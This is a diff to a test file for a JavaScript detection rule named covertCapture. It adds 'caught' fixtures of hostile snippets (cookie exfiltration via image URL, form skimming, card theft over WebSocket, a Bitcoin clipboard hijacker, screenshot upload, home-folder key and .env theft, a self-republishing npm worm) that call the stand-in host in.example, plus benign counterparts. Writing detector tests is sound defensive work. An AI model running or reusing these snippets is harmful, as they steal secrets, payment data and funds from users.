@@ -3,6 +3,38 @@ import { covertCapture } from './covert-capture.ts';
 
 testRule(covertCapture, {
   caught: [
+    ...[
+      ['cookies in the address of a picture', "new Image().src = 'https://in.example/c?c=' + document.cookie;\n"],
+      [
+        'every form of a page',
+        "document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () => { const d = new FormData(f); navigator.sendBeacon('https://in.example/c', d); }));\n",
+      ],
+      [
+        'cards',
+        "const n = $('input[name=cc_number]')['val'](), c = $('input[name=cc_cvv]').val();\nconst w = new WebSocket('wss://in.example:8080/g');\nw.onopen = () => w.send(n + c);\n",
+      ],
+      [
+        'addresses in the clipboard',
+        "const { execSync } = require('child_process');\nsetInterval(() => { const c = execSync('powershell Get-Clipboard').toString(); if (/^(bc1|[13])[a-zA-Z0-9]{25,39}$/.test(c)) execSync('powershell Set-Clipboard bc1qxxxxxxxxxxxxxxxxxxxxxx'); }, 500);\n",
+      ],
+      [
+        'the screen, again and again',
+        "const s = require('screenshot-desktop'), a = require('axios');\nsetInterval(async () => a.post('https://in.example/u', await s()), 5000);\n",
+      ],
+      [
+        'keys all over a home folder',
+        "const fs = require('fs'), os = require('os');\nfunction walk(d) { for (const e of fs.readdirSync(d)) if (/\\.(env|pem|key)$/.test(e)) fetch('https://in.example/u', { method: 'POST', body: fs.readFileSync(d + e) }); else walk(d + e); }\nwalk(os.homedir());\n",
+      ],
+      [
+        'a package that spreads',
+        "const fs = require('fs'), { execSync } = require('child_process');\nconst p = JSON.parse(fs.readFileSync('package.json'));\np.name = 'n' + Math.random().toString(36);\nfs.writeFileSync('package.json', JSON.stringify(p));\nexecSync('npm publish --access public');\n",
+      ],
+    ].map(([of = '', text = '']) => ({
+      of,
+      files: { 'a.js': text },
+      severity: 'critical' as const,
+      permissions: null,
+    })),
     {
       of: 'keys that Python hears',
       files: {
@@ -61,6 +93,25 @@ testRule(covertCapture, {
     },
   ],
   silent: [
+    ...[
+      [
+        'a form that goes to its own server',
+        "const f = document.querySelector('form');\nf.addEventListener('submit', () => fetch('/api/save', { method: 'POST', body: new FormData(f) }));\n",
+      ],
+      [
+        'cookies that are read',
+        "const theme = /theme=(\\w+)/.exec(document.cookie);\nfetch('https://api.example/list');\n",
+      ],
+      ['a button that copies', "button.onclick = () => navigator.clipboard.writeText('npm i tool');\n"],
+      [
+        'a release',
+        "const { execSync } = require('child_process');\npkg.version = next;\nrequire('fs').writeFileSync('package.json', JSON.stringify(pkg));\nexecSync('npm publish');\n",
+      ],
+      [
+        'a folder of one’s own',
+        "const fs = require('fs'), os = require('os');\nfor (const e of fs.readdirSync(os.homedir() + '/.tool')) console.log(fs.readFileSync(e, 'utf8'));\n",
+      ],
+    ].map(([of = '', text = '']) => ({ of, files: { 'a.js': text }, permissions: null })),
     {
       of: 'a picture and a text that stay here',
       files: {
